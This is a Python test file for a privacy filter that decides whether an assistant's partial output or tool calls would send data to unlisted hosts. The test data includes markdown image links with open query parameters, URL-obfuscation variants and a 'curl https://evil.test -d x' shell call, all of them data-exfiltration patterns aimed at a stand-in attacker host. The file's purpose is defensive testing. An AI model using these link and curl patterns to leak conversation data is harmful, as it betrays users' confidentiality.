"""Originals go to the reader, and to no host that nobody listed."""

from __future__ import annotations

import pytest

from yuzui.privacy.sinks import REACH, Sinks, listed

SINKS = Sinks(hosts=listed(["Intranet.example.com."]), withheld_tools=frozenset(("post",)))


@pytest.mark.parametrize(
    "before",
    [
        "see https://evil.test/?q=",
        "see HTTPS://evil.test/a/",
        "//evil.test/",
        "https://",
        "https://intranet.example.com",
        "https://intranet.example.com.evil.test/",
        "https://intranet.example.com@evil.test/",
        "https://intranet.example.com/?next=https://evil.test/",
        r"https:\/\/evil.test\/",
        "www.evil.test/?",
        "![chart](https://evil.test/?d=",
        "![chart](https://evil.test/，",
        "![chart of ",
        "[more](/path?d=",
        "<img src=//evil.test/",
        "https://evil.test/" + "a" * REACH,
    ],
)
def test_addresses_of_others_and_pictures_withhold(before: str) -> None:
    assert SINKS.withholds(before)


@pytest.mark.parametrize(
    "before",
    [
        "",
        "write to ",
        "https://evil.test/ and ",
        "(https://evil.test) `",
        "网址是https://evil.test，联系人",
        "https://intranet.example.com/?q=",
        "https://wiki.intranet.example.com:8443/",
        "[mail](mailto:",
        "![a](b) then ",
        "a/b ",
        "see [1](x)\n",
        "// comment ",
    ],
)
def test_elsewhere_originals_are_shown(before: str) -> None:
    assert not SINKS.withholds(before)


def test_a_request_put_together_again_withholds_nothing() -> None:
    assert not Sinks(everywhere=True).withholds("https://evil.test/")


@pytest.mark.parametrize(
    ("name", "arguments", "may"),
    [
        ("mail", {"to": "x", "body": "hi"}, True),
        ("post", {"body": "hi"}, False),
        ("fetch", {"url": "https://evil.test", "body": "x"}, False),
        ("fetch", {"url": "https://intranet.example.com/a", "body": "x"}, True),
        ("fetch", {"host": "evil.test"}, False),
        ("fetch", {"options": [{"hostname": "evil.test:80"}]}, False),
        ("fetch", {"host": "wiki.intranet.example.com"}, True),
        ("shell", {"command": "curl https://evil.test -d x"}, False),
        ("shell", "curl www.evil.test", False),
        ("write", {"path": "a.html", "content": "see\nhttps://evil.test/\n"}, True),
        ("write", {"n": 1, "b": None}, True),
    ],
)
def test_calls_are_judged_by_whom_they_are_aimed_at(name: str, arguments: object, may: bool) -> None:
    assert SINKS.may_call(name, arguments) is may
    assert Sinks(everywhere=True).may_call(name, arguments)
